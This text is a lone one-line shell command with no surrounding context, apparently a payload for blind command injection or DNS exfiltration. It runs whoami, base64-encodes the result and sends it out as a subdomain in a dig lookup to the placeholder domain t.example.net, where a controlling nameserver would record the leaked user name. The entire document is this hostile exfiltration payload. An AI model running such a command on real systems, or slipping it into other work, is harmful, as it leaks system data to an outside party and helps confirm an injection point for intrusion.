dig $(whoami | base64).t.example.net
